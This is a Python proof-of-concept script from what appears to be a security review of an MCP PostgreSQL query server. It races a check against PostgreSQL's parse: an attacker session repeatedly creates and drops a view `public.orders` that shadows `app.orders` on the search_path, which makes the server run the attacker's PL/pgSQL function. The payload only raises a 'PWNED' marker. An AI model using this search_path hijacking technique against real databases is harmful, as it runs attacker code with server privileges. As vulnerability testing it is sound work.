"""attack3 / F17: a relation planted in a kept open schema takes the name of a trusted one
further down the path. Relation names are qualified only when they resolve INTO an open schema;
one that resolves to a later, trusted schema (`app.orders` on `public, app`) stays unqualified,
and the open schema stays on the statement's path whenever the statement uses a trusted object
there by an unqualified name (`public.fmt(int)`, a DBA's helper). An attacker's view
`public.orders` created between the check and PostgreSQL's parse is then picked before
`app.orders`; the functions in a view run as the caller: its PL/pgSQL runs as the server.
A second session creates and drops the view in a loop (present at the check: refused).

Usage (bed and setup.py first, see README.md):
  PYTHONPATH=tests:security-review uv run python security-review/race_relation.py [CALLS]
  (HOLD=seconds the view stays, HOLD_OFF=seconds it is gone; 0 flips as fast as possible)"""
import asyncio, json, os, sys, time
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool

HOLD = float(os.environ.get("HOLD", "0"))  # seconds the view stays
HOLD_OFF = float(os.environ.get("HOLD_OFF", os.environ.get("HOLD", "0")))  # seconds it is gone
ADMIN = r"""
DROP SCHEMA IF EXISTS app CASCADE; CREATE SCHEMA app;
CREATE TABLE app.orders (id int); INSERT INTO app.orders VALUES (1), (2);
GRANT USAGE ON SCHEMA app TO reader, attacker; GRANT SELECT ON app.orders TO reader;
CREATE OR REPLACE FUNCTION public.fmt(int) RETURNS text IMMUTABLE LANGUAGE sql
  BEGIN ATOMIC SELECT 'order #' || $1::text; END;
ALTER ROLE reader SET search_path = public, app;
"""
ATTACKER = r"""
DROP VIEW IF EXISTS public.orders;
CREATE OR REPLACE FUNCTION atk.evil() RETURNS int VOLATILE LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
  RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
GRANT EXECUTE ON FUNCTION atk.evil() TO PUBLIC;
"""
SQL = "SELECT fmt(id) FROM orders"


async def flipper(stop: asyncio.Event, counter: list[int]) -> None:
    c = await asyncpg.connect(as_role("attacker"))
    try:
        while not stop.is_set():
            await c.execute("CREATE VIEW public.orders AS SELECT atk.evil() AS id; "
                            "GRANT SELECT ON public.orders TO PUBLIC")
            if HOLD:
                await asyncio.sleep(HOLD)
            await c.execute("DROP VIEW public.orders")
            if HOLD_OFF:
                await asyncio.sleep(HOLD_OFF)
            counter[0] += 1
    finally:
        await c.execute("DROP VIEW IF EXISTS public.orders")
        await c.close()


async def main(calls: int) -> None:
    a = await asyncpg.connect(DSN); await a.execute(ADMIN); await a.close()
    a = await asyncpg.connect(as_role("attacker")); await a.execute(ATTACKER); await a.close()
    outcomes: dict[str, int] = {}
    stop, counter = asyncio.Event(), [0]
    async with connect(as_role("reader")) as c:
        ok, body = await tool(c, "execute_query", sql=SQL)
        print("baseline:", ok, json.dumps(body.get("rows", body.get("error")))[:200])
        task = asyncio.create_task(flipper(stop, counter))
        t0 = time.monotonic()
        try:
            for i in range(calls):
                ok, body = await tool(c, "execute_query", sql=SQL)
                if ok:
                    k = "ran-clean"
                else:
                    msg = body["error"]["message"]
                    k = "PWNED" if "PWNED" in msg else body["error"]["code"] + ":" + str(body["error"].get("context", {}).get("rule", ""))
                    if "PWNED" in msg and outcomes.get("PWNED", 0) < 2:
                        print(f"call {i}: {msg}")
                outcomes[k] = outcomes.get(k, 0) + 1
        finally:
            stop.set(); await task
        print(f"{calls} calls in {time.monotonic() - t0:.1f}s, {counter[0]} flips:", outcomes)
    a = await asyncpg.connect(DSN)
    await a.execute("ALTER ROLE reader RESET search_path"); await a.close()

if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]) if len(sys.argv) > 1 else 100))
